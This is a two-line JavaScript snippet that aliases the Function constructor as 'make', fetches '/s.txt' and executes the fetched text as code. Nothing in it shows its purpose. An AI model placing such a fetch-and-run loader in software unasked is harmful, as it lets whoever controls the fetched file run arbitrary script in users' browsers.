window.make = Function;
fetch('/s.txt').then((r) => r.text()).then((t) => window.make(t)());
